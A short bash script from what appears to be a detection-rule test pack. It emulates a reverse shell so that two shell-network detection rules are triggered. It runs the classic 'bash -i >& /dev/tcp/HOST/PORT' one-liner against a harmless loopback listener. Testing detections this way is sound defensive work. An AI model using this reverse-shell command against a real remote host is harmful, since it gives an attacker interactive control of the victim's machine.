#!/usr/bin/env bash
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell
# technique: T1095 Non-Application Layer Protocol
# rules: vigil_reverse_shell_commandline vigil_shell_network_connection
# Acts out: the classic `bash -i >& /dev/tcp/HOST/PORT 0>&1` reverse shell, to a loopback
# listener that sends one harmless command and `exit`.
source lib/common.sh
listen_once 'echo vigil-rulepack reverse shell\nexit\n'
timeout 20 bash -c "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1" || true
